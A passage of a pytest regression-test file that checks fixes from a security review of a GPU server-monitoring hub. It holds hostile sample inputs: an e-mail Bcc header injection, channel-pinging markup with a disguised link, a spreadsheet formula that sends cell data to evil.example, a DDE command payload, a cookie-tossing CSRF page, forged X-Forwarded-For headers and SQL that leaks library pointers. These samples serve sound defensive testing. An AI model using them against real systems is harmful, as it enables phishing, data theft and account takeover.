"""Regression tests for the security review of ba1fb60 (docs/security.md lists them).

Each test names its finding (M1-M4, L1-L10, I1-I10) in the docstring and fails on ba1fb60.
"""

import email
import email.policy
import json
import re
import time

import pytest
from browser import launch
from reports import sample_report
from test_alerts import Receiver, SmtpSink
from test_hub_datasette import Client, ingest

from server_monitor.jobs import alerts
from server_monitor.storage import schema
from server_monitor.storage.contract import validate_report
from server_monitor.storage.store import store_report

HOSTILE_HOST = "gpu-07\nBcc: attacker@evil.example"
MARKUP_HOST = '<!channel> <at user_id="all"></at> re-login: <https://evil.example/login|https://monitor.example.org/>'


@pytest.fixture
def browser():
    """A Chromium per test here: this file's other tests use ``asyncio.run``, which a
    file-wide Playwright (its event loop running) would refuse."""
    yield from launch()


def _alert(message):
    return {"rule": "gpu_failure", "severity": "critical", "server_id": 1, "subject": "error", "message": message}


# -- M3 / L9: notification text ------------------------------------------------------------
def test_m3_newline_in_agent_text_is_mailed_on_one_line():
    """M3: a newline in a hostname no longer raises ValueError from the e-mail Subject (which
    killed the alert thread); the notice is sent with the text on one line, no injected header."""
    sink = SmtpSink()
    try:
        cfg = dict(alerts.DEFAULTS, smtp={"host": "127.0.0.1", "port": sink.port, "from": "monitor@example.org",
                                          "to": ["admins@example.org"]})
        assert alerts.Notifier(cfg).send("firing", _alert(HOSTILE_HOST + "\r\u2028: nvidia-smi fails"))
        assert len(sink.messages) == 1
        mail = sink.messages[0]
        parsed = email.message_from_string(mail, policy=email.policy.default)
        assert parsed["Subject"].strip() == "[FIRING] [critical] gpu-07 Bcc: attacker@evil.example : nvidia-smi fails"
        assert parsed["Bcc"] is None and not any(line.lower().startswith("bcc:") for line in mail.splitlines())
    finally:
        sink.sock.close()


def test_m3_one_failing_target_does_not_stop_the_others():
    """M3: an exception of any kind in one delivery target is caught; the next target still gets the notice."""
    receiver = Receiver()
    try:
        cfg = dict(alerts.DEFAULTS, webhooks=[{"format": "generic"},  # no url: KeyError before the fix
                                              {"url": receiver.url + "/ok", "format": "generic"}],
                   smtp={"host": "127.0.0.1", "port": "not-a-port", "from": "a@b", "to": "c@d"})
        assert alerts.Notifier(cfg).send("firing", _alert("node-1: nvidia-smi fails")) is True
        assert [b["message"] for b in receiver.of("/ok")] == ["node-1: nvidia-smi fails"]
    finally:
        receiver.server.shutdown()


def test_m3_alert_thread_survives_a_failing_pass(tmp_path):
    """M3: a pass that raises (here: a corrupt gpu_lost value) is logged and retried; the thread
    lives on and fires the next alert, and its last error is visible."""
    path = str(tmp_path / "monitor.db")
    schema.migrate(path)
    receiver = Receiver()
    conn = schema.connect(path)
    now = int(time.time())
    report = sample_report("bad-host", gpus=1, processes=0, sample_time=now)
    store_report(conn, validate_report(report), now)
    conn.execute("UPDATE servers SET gpu_state = 'gpu_lost', gpu_lost = 'not json'")
    cfg = dict(alerts.DEFAULTS, interval_s=0.05, webhooks=[{"url": receiver.url + "/g", "format": "generic"}])
    thread = alerts.AlertThread(alerts.AlertEngine(path, cfg))
    thread.start()
    try:
        deadline = time.time() + 10
        while thread.last_error is None and time.time() < deadline:
            time.sleep(0.02)
        assert thread.last_error and "JSONDecodeError" in thread.last_error
        assert thread.is_alive()
        conn.execute("UPDATE servers SET gpu_state = 'error', gpu_lost = NULL")
        while not receiver.of("/g") and time.time() < deadline:
            time.sleep(0.02)
        assert [b["rule"] for b in receiver.of("/g")] == ["gpu_failure"]
        assert thread.is_alive()
    finally:
        thread.stopped.set()
        receiver.server.shutdown()


@pytest.mark.filterwarnings("ignore::pytest.PytestUnhandledThreadExceptionWarning")
def test_m3_dead_background_thread_shows_in_health(datasette):
    """M3: a background thread that died makes /-/health answer 503 naming it (the UI banner reads this)."""
    from server_monitor.serving import hub

    client = Client(datasette)
    assert client.get("/-/health").json()["ok"] is True
    ctx = hub.context(datasette)
    broken = alerts.AlertThread(alerts.AlertEngine(ctx.config.db_path, {}))  # no interval_s: run() raises
    broken.start()
    broken.join(5)
    ctx.alert_thread = broken
    response = client.get("/-/health")
    assert response.status_code == 503
    assert response.json()["dead_threads"] == ["alerts"]


def test_l9_slack_and_feishu_markup_is_neutralised():
    """L9: agent text cannot ping a channel (<!channel>, <at user_id="all">) or disguise a link."""
    notifier = alerts.Notifier(dict(alerts.DEFAULTS, dashboard_url="https://monitor.example.org/"))
    slack = notifier.body("slack", "firing", _alert(MARKUP_HOST + ": / is 99 % full"))["text"]
    assert "<" not in slack and ">" not in slack
    assert "&lt;!channel&gt;" in slack and slack.endswith("\nhttps://monitor.example.org/")
    feishu = notifier.body("feishu", "firing", _alert(MARKUP_HOST))["content"]["text"]
    assert "<at" not in feishu and "<" not in feishu and "\uff1cat user_id" in feishu


# -- M2 / L5 / I4 / I7: password work --------------------------------------------------------
PASSWORD = "correct horse battery"


def _plugin(name):
    """The loaded plugin module ``plugins/<name>.py`` (Datasette registers it under its file name)."""
    from datasette.plugins import pm

    return pm.get_plugin(name + ".py")


def _token(client, path="/login"):
    return re.search(r'name="csrftoken" value="([^"]+)"', client.get(path).text).group(1)


def _register(client, code, username="flood", password="xxxxxxxx-strong", password2=None):
    return client.post("/register", data={"csrftoken": _token(client), "code": code, "username": username,
                                          "password": password, "password2": password2 or password})


def test_m2_register_checks_the_invite_before_hashing_and_is_rate_limited(datasette, monkeypatch):
    """M2: /register with a bogus invite runs no PBKDF2 at all, and failures get 429 after the budget."""
    sm_auth = _plugin("sm_auth")
    hashes = []
    real = sm_auth.hash_password
    monkeypatch.setattr(sm_auth, "hash_password", lambda *a, **k: hashes.append(1) or real(*a, **k))
    anon = Client(datasette)
    statuses = [_register(anon, f"bogus-{i}").status_code for i in range(12)]
    assert statuses == [400] * 10 + [429] * 2
    assert hashes == []  # before the fix: one 480,000-round hash per request
    refused = _register(anon, "bogus-x")
    assert int(refused.headers["retry-after"]) > 0


def test_m2_a_valid_invite_still_registers_and_hashes_once(datasette, monkeypatch):
    """M2: the invite-first order keeps the normal path working (one hash, one account)."""
    sm_auth = _plugin("sm_auth")
    from server_monitor.serving import hub

    hashes = []
    real = sm_auth.hash_password
    monkeypatch.setattr(sm_auth, "hash_password", lambda *a, **k: hashes.append(1) or real(*a, iterations=1000))
    ctx = hub.context(datasette)
    _, code = ctx.accounts.create_invite("viewer", hours=1)
    anon = Client(datasette)
    assert _register(anon, code, "taken-later", "pw-mismatch-1", "pw-mismatch-2").status_code == 400
    assert _register(anon, code, "newbie", PASSWORD).status_code == 302
    assert hashes == [1] and ctx.accounts.user("newbie")["role"] == "viewer"


def test_m2_pbkdf2_work_is_capped(datasette):
    """M2: password hashing runs on a bounded pool (never more than ``password_workers`` at
    once) and a full queue is refused (PasswordBusy -> 503) instead of piling up."""
    import asyncio
    import threading

    from server_monitor.serving import hub

    ctx = hub.context(datasette)
    running, peak, lock = [0], [0], threading.Lock()
    release = threading.Event()

    def work():
        with lock:
            running[0] += 1
            peak[0] = max(peak[0], running[0])
        release.wait(5)
        with lock:
            running[0] -= 1
        return True

    async def flood():
        jobs = [asyncio.ensure_future(ctx.password_work(work)) for _ in range(hub.PASSWORD_QUEUE + 8)]
        await asyncio.sleep(0.3)
        release.set()
        return await asyncio.gather(*jobs, return_exceptions=True)

    results = asyncio.run(flood())
    assert peak[0] == ctx.password_workers
    assert results.count(True) == hub.PASSWORD_QUEUE
    assert sum(isinstance(r, hub.PasswordBusy) for r in results) == 8


def test_l5_account_current_password_check_is_rate_limited(datasette):
    """L5: wrong current passwords at /account share the per-username login budget (429 after five)."""
    from datasette_auth_passwords.utils import hash_password

    from server_monitor.serving import hub

    ctx = hub.context(datasette)
    ctx.accounts.create_user("vera", hash_password(PASSWORD, iterations=1000), "viewer")
    vera = Client(datasette)
    assert vera.login("vera", PASSWORD).status_code == 302
    statuses = []
    for i in range(7):
        response = vera.post("/account", data={"csrftoken": _token(vera, "/account"), "password": f"guess-{i}",
                                               "new_password": "another strong one", "new_password2": "another strong one"})
        statuses.append(response.status_code)
    assert statuses == [200] * 5 + [429] * 2
    # The login of that username is locked for the window too.
    assert Client(datasette).login("vera", PASSWORD).status_code == 429


@pytest.mark.parametrize("password", ["aaaaaaaaaaaa", "abababababab", "1234567890", "Password123", "vera-the-user1"])
def test_i4_trivially_weak_passwords_are_refused(password):
    """I4: all-same/few-character passwords, the common list and the username are refused."""
    from server_monitor.auth.accounts import AccountError, check_password

    with pytest.raises(AccountError):
        check_password(password, "vera-the-user")
    check_password("correct horse battery", "vera-the-user")  # a passphrase passes


# -- M1 / I2 / I9: CSRF bound to the session, origin checks, https cookies -----------------------
@pytest.fixture
def admin_and_vera(datasette, hub_config):
    from datasette_auth_passwords.utils import hash_password

    from server_monitor.serving import hub

    ctx = hub.context(datasette)
    ctx.accounts.create_user("vera", hash_password(PASSWORD, iterations=1000), "viewer")
    admin = Client(datasette)
    assert admin.login(hub_config.get("auth.username"), hub_config.password).status_code == 302
    return admin, ctx


def test_m1_tossed_csrf_cookie_cannot_drive_admin_forms(datasette, admin_and_vera):
    """M1: a token taken from an anonymous GET /login and planted as ds_csrftoken (cookie tossing
    from a same-site page) no longer passes Datasette's CSRF check for a logged-in admin."""
    admin, ctx = admin_and_vera
    attacker = Client(datasette)
    planted = _token(attacker)  # anonymous, validly signed
    response = admin.post("/admin/users/vera", cookies={"ds_csrftoken": planted},
                          data={"csrftoken": planted, "action": "update", "role": "admin", "scope": "all"})
    assert response.status_code == 403
    assert ctx.accounts.user("vera")["role"] == "viewer"
    # The token rendered in the admin's own pages is bound to the session and works.
    bound = _token(admin, "/admin")
    assert bound != planted
    assert admin.post("/admin/users/vera", cookies={"ds_csrftoken": planted},
                      data={"csrftoken": bound, "action": "update", "role": "analyst", "scope": "all"}).status_code == 302
    assert ctx.accounts.user("vera")["role"] == "analyst"


def test_m1_same_site_and_foreign_origin_writes_are_refused(admin_and_vera):
    """M1: writes with Sec-Fetch-Site other than same-origin/none, or a foreign Origin, get 403
    even with the right token; the hub's own origin passes."""
    admin, ctx = admin_and_vera
    bound = _token(admin, "/admin")
    form = {"csrftoken": bound, "action": "update", "role": "admin", "scope": "all"}
    for headers in ({"Sec-Fetch-Site": "same-site"}, {"Sec-Fetch-Site": "cross-site"},
                    {"Origin": "http://127.0.0.1:8899"}, {"Origin": "null"}):
        response = admin.post("/admin/users/vera", data=form, headers=headers)
        assert response.status_code == 403 and "forbidden" in response.json()["error"], headers
    assert ctx.accounts.user("vera")["role"] == "viewer"
    ok = admin.post("/admin/users/vera", data=form, headers={"Origin": "http://localhost", "Sec-Fetch-Site": "same-origin"})
    assert ok.status_code == 302 and ctx.accounts.user("vera")["role"] == "admin"


def test_i2_multipart_post_is_a_clear_4xx(admin_and_vera):
    """I2: a multipart/form-data POST with cookies answered 500 (asgi-csrf vs python-multipart);
    now a 415 that names the accepted type, and nothing changes."""
    admin, ctx = admin_and_vera
    response = admin.post("/admin/users/vera", files={"role": (None, "admin")},
                          data={"csrftoken": _token(admin, "/admin"), "action": "update"})
    assert response.status_code == 415 and "x-www-form-urlencoded" in response.json()["error"]
    assert ctx.accounts.user("vera")["role"] == "viewer"


def _https_client(datasette):
    import httpx

    return httpx.AsyncClient(transport=httpx.ASGITransport(app=datasette.app()), base_url="https://localhost")


def test_m1_i9_https_cookies_are_host_prefixed_and_secure(datasette, hub_config):
    """M1/I9: over https the session cookie is __Host-sm_session (Secure, Path=/) and Datasette's
    ds_csrftoken is Secure; a plain-named sm_session (which a sibling domain could plant) is ignored."""
    import asyncio

    async def go():
        async with _https_client(datasette) as client:
            page = await client.get("/login")
            assert "Secure" in page.headers["set-cookie"] and page.headers["set-cookie"].startswith("ds_csrftoken=")
            token = re.search(r'name="csrftoken" value="([^"]+)"', page.text).group(1)
            login = await client.post("/login", data={"username": hub_config.get("auth.username"),
                                                      "password": hub_config.password, "csrftoken": token})
            assert login.status_code == 302
            cookie = login.headers["set-cookie"]
            assert cookie.startswith("__Host-sm_session=") and "Secure" in cookie and "Path=/" in cookie
            assert "Domain" not in cookie
            value = login.cookies["__Host-sm_session"]
            assert (await client.get("/admin")).status_code == 200
            client.cookies.clear()
            client.cookies.set("ds_csrftoken", token)
            client.cookies.set("sm_session", value)  # the same session under the unprefixed name
            assert (await client.get("/admin")).status_code == 302

    asyncio.run(go())


def test_m1_browser_cookie_tossing_from_another_port_fails(page, hub_process, hub_config):
    """M1, as the review ran it: an admin opens a page on another port of the hub's host; it plants
    an anonymous ds_csrftoken and submits the role form. The viewer stays a viewer."""
    import threading
    from http.server import BaseHTTPRequestHandler, HTTPServer

    import urllib3
    from browser import login
    from datasette_auth_passwords.utils import hash_password

    from server_monitor.auth.accounts import Accounts

    accounts = Accounts(hub_config.auth_db_path)
    accounts.create_user("vera", hash_password(PASSWORD, iterations=1000), "viewer")
    anon = urllib3.PoolManager().request("GET", hub_process.base_url + "/login")
    planted = re.search(r'name="csrftoken" value="([^"]+)"', anon.data.decode()).group(1)
    html = f"""<!DOCTYPE html><form id=f method=POST action="{hub_process.base_url}/admin/users/vera">
<input name=csrftoken value="{planted}"><input name=action value=update><input name=role value=admin>
<input name=scope value=all></form>
<script>document.cookie = "ds_csrftoken={planted}; path=/"; f.submit();</script>""".encode()

    class Attacker(BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(html)))
            self.end_headers()
            self.wfile.write(html)

        def log_message(self, *args):
            pass

    server = HTTPServer(("127.0.0.1", 0), Attacker)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        login(page, hub_process.base_url, hub_config.get("auth.username"), hub_config.password)
        with page.expect_navigation(url=re.compile(r".*/admin/users/vera")) as nav:
            page.goto(f"http://127.0.0.1:{server.server_port}/same.html")
        assert nav.value.status == 403
        assert accounts.user("vera")["role"] == "viewer"
    finally:
        server.shutdown()


# -- M4: ids never reused, delete is complete ---------------------------------------------------
def _put(conn, name, ts=None, gpus=1):
    now = int(time.time()) if ts is None else ts
    return store_report(conn, validate_report(sample_report(name, gpus=gpus, processes=0, sample_time=now)), now)


def test_m4_server_and_gpu_ids_are_never_reused(tmp_path):
    """M4: deleting the highest-id server (or GPU) no longer gives its id to the next new host."""
    from server_monitor.storage.store import delete_server

    path = str(tmp_path / "monitor.db")
    schema.migrate(path)
    conn = schema.connect(path)
    assert _put(conn, "keep")["server_id"] == 1
    assert _put(conn, "old-host")["server_id"] == 2
    old_gpu = conn.execute("SELECT max(id) FROM gpus").fetchone()[0]
    assert delete_server(conn, 2)
    new = _put(conn, "brand-new-secret-host")["server_id"]
    assert new == 3
    assert conn.execute("SELECT min(id) FROM gpus WHERE server_id = ?", (new,)).fetchone()[0] > old_gpu


def test_m4_migration_rebuilds_tables_keeping_every_row(tmp_path, monkeypatch):
    """M4: the AUTOINCREMENT rebuild of a populated older database keeps all rows and children
    (no cascade through the foreign keys), keeps the views, and starts ids above any id still
    named in gpu_usage_1h/alerts."""
    path = str(tmp_path / "monitor.db")
    full, version = schema.MIGRATIONS, schema.MIGRATIONS.index(schema.migration_9)
    monkeypatch.setattr(schema, "MIGRATIONS", full[:version])
    monkeypatch.setattr(schema, "SCHEMA_VERSION", version)
    schema.migrate(path)
    conn = schema.connect(path)
    now = int(time.time())
    # Rows as that version's ingest wrote them (plain SQL: today's store_report needs later columns).
    for sid, name in ((1, "a"), (2, "b")):
        conn.execute("INSERT INTO servers (id, machine_id, hostname, first_seen, last_seen, last_ts) VALUES (?,?,?,?,?,?)",
                     (sid, "m-" + name, name, now, now, now))
        for g in range(2):
            gid = sid * 10 + g
            conn.execute("INSERT INTO gpus (id, server_id, uuid, first_seen, last_ts) VALUES (?,?,?,?,?)",
                         (gid, sid, f"GPU-{name}-{g}", now, now))
            for i in range(3):
                conn.execute("INSERT INTO gpu_samples (gpu_id, ts, utilization_gpu) VALUES (?,?,?)", (gid, now - i * 30, 50))
            conn.execute("INSERT INTO gpu_processes (server_id, ts, gpu_id, pid, user) VALUES (?,?,?,?,?)",
                         (sid, now, gid, 100 + g, "alice"))
        for i in range(3):
            conn.execute("INSERT INTO host_samples (server_id, ts, received_at, report_id) VALUES (?,?,?,?)",
                         (sid, now - i * 30, now, f"r-{name}-{i}"))
            conn.execute("INSERT INTO disk_samples (server_id, ts, mountpoint, used_bytes) VALUES (?,?,?,?)",
                         (sid, now - i * 30, "/", 1))
    conn.execute("INSERT INTO alerts (key, rule, severity, server_id, message, started_at)"
                 " VALUES ('k', 'host_offline', 'critical', 9, 'gone', 1)")  # a server deleted long ago
    tables = ("servers", "gpus", "host_samples", "gpu_samples", "gpu_processes", "disk_samples", "alerts")
    columns = {t: ", ".join(row[1] for row in conn.execute(f"PRAGMA table_info({t})")) for t in tables}
    before = {t: conn.execute(f"SELECT {columns[t]} FROM {t} ORDER BY 1, 2").fetchall() for t in tables}
    conn.close()
    monkeypatch.setattr(schema, "MIGRATIONS", full)
    monkeypatch.setattr(schema, "SCHEMA_VERSION", len(full))
    assert schema.migrate(path) == version
    conn = schema.connect(path)
    assert {t: conn.execute(f"SELECT {columns[t]} FROM {t} ORDER BY 1, 2").fetchall() for t in tables} == before
    assert "AUTOINCREMENT" in conn.execute("SELECT sql FROM sqlite_master WHERE name = 'servers'").fetchone()[0]
    assert conn.execute("SELECT count(*) FROM server_state").fetchone()[0] == 2
    assert conn.execute("PRAGMA foreign_key_check").fetchall() == []
    assert _put(conn, "c")["server_id"] == 10


def test_m4_delete_removes_accounting_alerts_and_scopes(datasette, hub_config):
    """M4: deleting a server removes its gpu_usage_1h and alerts rows and drops its id from
    users.servers and invites.servers; a viewer scoped to it sees nothing of the next new host."""
    from datasette_auth_passwords.utils import hash_password

    from server_monitor.serving import hub

    ctx = hub.context(datasette)
    admin = Client(datasette)
    assert admin.login(hub_config.get("auth.username"), hub_config.password).status_code == 302
    token = hub_config.get("agent.token")
    for name in ("one", "victim"):
        assert ingest(admin, sample_report(name, gpus=1, processes=1), token).status_code == 201
    conn = schema.connect(hub_config.db_path)
    conn.execute("INSERT INTO gpu_usage_1h (hour, server_id, gpu_id, user, container, gpu_seconds, vram_mib_seconds,"
                 " util_seconds, util_known_seconds, held_seconds) VALUES (0, 2, 2, 'old-host-user-alice', '', 60, 0, 0, 0, 60)")
    conn.execute("INSERT INTO alerts (key, rule, severity, server_id, message, started_at)"
                 " VALUES ('k', 'disk_full', 'warning', 2, 'victim: / full', 1)")
    ctx.accounts.create_user("scoped-old", hash_password(PASSWORD, iterations=1000), "viewer", servers=[1, 2])
    ctx.accounts.create_user("only-victim", hash_password(PASSWORD, iterations=1000), "viewer", servers=[2])
    ctx.accounts.create_invite("viewer", hours=1, servers=[2])
    viewer = Client(datasette)
    assert viewer.login("only-victim", PASSWORD).status_code == 302
    assert [s["name"] for s in viewer.get("/monitor/servers.json?_shape=array").json()] == ["victim"]
    victim_gpus = [r[0] for r in conn.execute("SELECT id FROM gpus WHERE server_id = 2")]
    conn.execute("INSERT INTO idle_nudges (gpu_id, holder, idle_since, first_at, last_at) VALUES (?, 'alice', 1, 2, 2)",
                 (victim_gpus[0],))
    conn.commit()
    assert admin.request("DELETE", "/api/servers/2").json() == {"ok": True, "deleted": 2}
    assert conn.execute("SELECT count(*) FROM gpu_usage_1h WHERE server_id = 2").fetchone()[0] == 0
    assert conn.execute("SELECT count(*) FROM alerts WHERE server_id = 2").fetchone()[0] == 0
    # Every table of the schema, present and future: nothing keyed by the server or its GPUs is left.
    for (table,) in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'").fetchall():
        columns = {row[1] for row in conn.execute(f"PRAGMA table_info({table})")}
        if "server_id" in columns:
            assert conn.execute(f"SELECT count(*) FROM {table} WHERE server_id = 2").fetchone()[0] == 0, table
        if "gpu_id" in columns and table != "gpus":
            left = conn.execute(f"SELECT count(*) FROM {table} WHERE gpu_id IN ({','.join('?' * len(victim_gpus))})",
                                victim_gpus).fetchone()[0]
            assert left == 0, table
    assert ctx.accounts.user("scoped-old")["servers"] == [1]
    assert ctx.accounts.user("only-victim")["servers"] == []
    assert ctx.accounts.invites()[0]["servers"] == []
    assert ingest(admin, sample_report("brand-new-secret-host", gpus=1, processes=0), token).status_code == 201
    assert viewer.get("/monitor/servers.json?_shape=array").json() == []


# -- L4: client address --------------------------------------------------------------------------
def test_l4_x_forwarded_for_is_not_trusted_without_configuration(hub_process, hub_config):
    """L4: the real hub (uvicorn via server-monitor serve) no longer takes the client address from
    X-Forwarded-For sent by a local client: rotating it does not reset the per-address login budget
    and the session's audit address is the socket peer."""
    from http_client import Browserless

    admin = Browserless(hub_process.base_url)
    page = admin.request("GET", "/login")
    token = re.search(r'name="csrftoken" value="([^"]+)"', page.data.decode()).group(1)
    admin.request("POST", "/login", headers={"X-Forwarded-For": "6.6.6.6"}, encode_multipart=False,
                  fields={"username": hub_config.get("auth.username"), "password": hub_config.password,
                          "csrftoken": token})
    statuses = []
    for i in range(6):
        client = Browserless(hub_process.base_url)
        page = client.request("GET", "/login")
        token = re.search(r'name="csrftoken" value="([^"]+)"', page.data.decode()).group(1)
        response = client.request("POST", "/login", headers={"X-Forwarded-For": f"10.19.0.{i}"},
                                  fields={"username": f"user{i}", "password": "wrong", "csrftoken": token},
                                  encode_multipart=False)
        statuses.append(response.status)
    assert statuses == [401] * 5 + [429]
    from server_monitor.auth.accounts import Accounts

    clients = [r[0] for r in Accounts(hub_config.auth_db_path).connection().execute("SELECT client FROM sessions")]
    assert clients == ["127.0.0.1"]


def _set_config(hub_config, **values):
    """Write dotted ``values`` into the test hub's config.yaml (the hub reads it at start)."""
    import yaml

    data = yaml.safe_load(open(hub_config.path))
    for dotted, value in values.items():
        section, key = dotted.split(".")
        data.setdefault(section, {})[key] = value
    with open(hub_config.path, "w") as fp:
        yaml.safe_dump(data, fp)


def test_l4_trusted_proxy_header_uses_the_rightmost_address(hub_config):
    """L4: with auth.trusted_proxy_header set, the address the proxy appended (rightmost) counts,
    not the leftmost one a client can forge."""
    from conftest import make_datasette

    from server_monitor.serving import hub

    _set_config(hub_config, **{"auth.trusted_proxy_header": "X-Forwarded-For"})
    schema.migrate(hub_config.db_path)
    ds = make_datasette(hub_config)
    client = Client(ds)
    token = _token(client)
    client.post("/login", headers={"X-Forwarded-For": "6.6.6.6, 10.0.0.9"},
                data={"username": hub_config.get("auth.username"), "password": hub_config.password, "csrftoken": token})
    rows = hub.context(ds).accounts.connection().execute("SELECT client FROM sessions").fetchall()
    assert [r[0] for r in rows] == ["10.0.0.9"]


# -- L3: stored timestamps -----------------------------------------------------------------------
def test_l3_absurd_past_timestamps_are_refused_with_a_precise_400(ingest_server):
    """L3: sample_time=1e9 with sent_at=9.9e10 gave a stored time in year -1079; now 400 naming
    sample_time, nothing stored. A 24 h backfill (demo, spool replay) is still stored."""
    import urllib3

    def post(report):
        response = urllib3.PoolManager().request(
            "POST", ingest_server.base_url + "/api/report", body=json.dumps(report).encode(),
            headers={"Authorization": "Bearer " + ingest_server.config.get("agent.token"),
                     "Content-Type": "application/json"})
        return response.status, json.loads(response.data)

    bad = sample_report("clock-bomb", sample_time=1e9)
    bad["sent_at"] = 9.9e10
    status, body = post(bad)
    assert status == 400 and body["error"].startswith("sample_time:") and "days before the hub's clock" in body["error"]
    old = sample_report("replayed", sample_time=time.time() - 86400)
    old["sent_at"] = time.time()
    assert post(old)[0] == 201
    conn = schema.connect(ingest_server.config.db_path)
    assert conn.execute("SELECT min(ts) > 0, count(DISTINCT server_id) FROM host_samples").fetchone() == (1, 1)


def test_l3_first_rollup_starts_at_the_oldest_hour_kept(tmp_path):
    """L3: on a new hub, a stray ancient sample made the first maintenance pass walk millions of
    hours; now it starts at the oldest hour the hourly tier keeps."""
    from conftest import file_connection

    from server_monitor.storage.rollup import Maintenance

    path = str(tmp_path / "monitor.db")
    schema.migrate(path)
    conn = schema.connect(path)
    now = int(time.time())
    _put(conn, "fresh", now - 7200)
    # A year-old stray sample (stored before the ingest check existed); on ba1fb60 a sample from
    # 1970 made this walk ~490,000 hours, a year walks 9,000 (slow, still finite for this test).
    conn.execute("UPDATE host_samples SET ts = ?", (now - 400 * 86400,))
    maintenance = Maintenance(path, retention_days=7, rollup_5m_days=90, rollup_1h_days=30)
    stats = maintenance.run_once()
    assert stats["hours_rolled"] <= 30 * 24 + 2
    assert file_connection(path).execute("SELECT value FROM maintenance_state WHERE name = 'rolled_until'").fetchone()[0] >= now - 3 * 3600


# -- L1: admin sessions and the admin credential -----------------------------------------------
def test_l1_admin_sessions_end_when_the_admin_password_changes(hub_config):
    """L1: after auth.password_hash is replaced and the hub restarted, an admin cookie from before
    is refused; a restart without a change keeps it."""
    from conftest import make_datasette
    from datasette_auth_passwords.utils import hash_password

    schema.migrate(hub_config.db_path)
    first = Client(make_datasette(hub_config))
    assert first.login(hub_config.get("auth.username"), hub_config.password).status_code == 302
    cookies = dict(first.cookies)
    restarted = Client(make_datasette(hub_config))
    restarted.cookies = dict(cookies)
    assert restarted.get("/admin").status_code == 200
    _set_config(hub_config, **{"auth.password_hash": hash_password("a rotated admin password", iterations=1000)})
    rotated = Client(make_datasette(hub_config))
    rotated.cookies = dict(cookies)
    response = rotated.get("/admin")
    assert response.status_code == 302 and response.headers["location"].startswith("/login")


# -- L2: CSV formula injection ------------------------------------------------------------------
def test_l2_csv_exports_escape_formulas(datasette, hub_config):
    """L2: process user / container names like =HYPERLINK(...) reach every CSV export (canned
    queries, tables, ?sql=, streamed) with a leading ' so a spreadsheet shows text; numbers
    (negative too) stay numbers."""
    import csv
    import io

    admin = Client(datasette)
    assert admin.login(hub_config.get("auth.username"), hub_config.password).status_code == 302
    report = sample_report("csv-host", gpus=1, processes=1)
    report["processes"][0]["user"] = '=HYPERLINK("http://evil.example/?d="&A3&B3,"Open report")'
    report["processes"][0]["container"] = "=cmd|' /C calc'!A0"
    assert ingest(admin, report, hub_config.get("agent.token")).status_code == 201
    paths = ["/monitor/processes.csv?_size=max", "/monitor/processes.csv?_dl=1",
             "/monitor/gpu_processes.csv?_stream=1",
             "/monitor.csv?sql=select+user,+container,+-3+as+n,+'-2%2B3'+as+f+from+gpu_processes"]
    for path in paths:
        response = admin.get(path)
        assert response.status_code == 200, path
        cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
        assert not any(cell.startswith(("=", "+", "@")) for cell in cells), (path, cells)
        assert "'=HYPERLINK(\"http://evil.example/?d=\"&A3&B3,\"Open report\")" in cells, path
        assert "'=cmd|' /C calc'!A0" in cells, path
    sql_cells = list(csv.reader(io.StringIO(admin.get(paths[-1]).text)))[1]
    assert sql_cells[2:] == ["-3", "'-2+3"]


# -- L8: file modes ------------------------------------------------------------------------------
@pytest.fixture
def umask_022():
    """The usual login umask, so files are world-readable unless the hub itself prevents it."""
    import os

    old = os.umask(0o022)
    yield
    os.umask(old)


def test_l8_databases_are_private_under_serve(umask_022, hub_process, hub_config):
    """L8: `server-monitor serve` (which scripts/run.sh runs) leaves monitor.db, auth.db and their
    WAL files readable by the hub's user only, even under umask 022."""
    import os
    import stat

    from browser import push

    push(hub_process, hub_config, sample_report("mode-host"))
    from http_client import Browserless

    Browserless(hub_process.base_url).login(hub_config.get("auth.username"), hub_config.password)
    for path in (hub_config.db_path, hub_config.auth_db_path, hub_config.db_path + "-wal", hub_config.auth_db_path + "-wal"):
        assert os.path.exists(path), path
        assert stat.S_IMODE(os.stat(path).st_mode) == 0o600, (path, oct(os.stat(path).st_mode))


def test_l8_run_sh_sets_umask_before_creating_anything():
    """L8: scripts/run.sh sets umask 077 before its first command that writes a file."""
    import os

    from conftest import ROOT

    lines = open(os.path.join(ROOT, "scripts", "run.sh")).read().splitlines()
    first_code = next(i for i, line in enumerate(lines) if line and not line.startswith("#") and line != "set -euo pipefail")
    assert lines[first_code].startswith("umask 077")


# -- L7: fts3_tokenizer ---------------------------------------------------------------------------
def test_l7_fts3_tokenizer_is_not_reachable_from_sql(datasette, hub_config):
    """L7: an analyst's (here the admin's) ?sql= can no longer read libsqlite3 pointers with
    fts3_tokenizer('porter') or register a tokenizer with the two-argument form."""
    admin = Client(datasette)
    assert admin.login(hub_config.get("auth.username"), hub_config.password).status_code == 302
    for sql in ("select hex(fts3_tokenizer('porter'))", "select fts3_tokenizer('simple', x'4141414141414141')"):
        response = admin.get("/monitor.json", params={"sql": sql})
        assert response.status_code == 400, (sql, response.text)
        assert "not authorized" in response.json()["error"]
    assert admin.get("/monitor.json", params={"sql": "select 1 as one", "_shape": "array"}).json() == [{"one": 1}]


# -- L10: host identity ----------------------------------------------------------------------------
def _post(base, report, token):
    import urllib3

    response = urllib3.PoolManager().request(
        "POST", base + "/api/report", body=json.dumps(report).encode(),
        headers={"Authorization": "Bearer " + token, "Content-Type": "application/json"})
    return response.status, json.loads(response.data)


def test_l10_report_ids_are_deduplicated_per_host(ingest_server):
    """L10: a report id already used by another host no longer suppresses this host's report."""
    token = ingest_server.config.get("agent.token")
    first = sample_report("gpu-a")
    second = sample_report("gpu-c")
    second["report_id"] = first["report_id"]
    assert _post(ingest_server.base_url, first, token)[0] == 201
    assert _post(ingest_server.base_url, second, token) == (201, {"report_id": first["report_id"], "stored": True})
    assert _post(ingest_server.base_url, second, token)[1]["duplicate"] is True  # its own replay still is one


def test_l10_per_host_token_cannot_take_another_servers_name(ingest_server):
    """L10: a per-host token of gpu-a reporting hostname gpu-c (an existing server) gets 403."""
    from server_monitor.auth import tokens
    from server_monitor.storage.store import machine_identity

    shared = ingest_server.config.get("agent.token")
    assert _post(ingest_server.base_url, sample_report("gpu-c"), shared)[0] == 201
    own = sample_report("gpu-a")
    _, value = tokens.issue(tokens.connect(ingest_server.config.auth_db_path), machine_identity(own["host"]), "gpu-a")
    assert _post(ingest_server.base_url, own, value)[0] == 201
    spoof = sample_report("gpu-a")
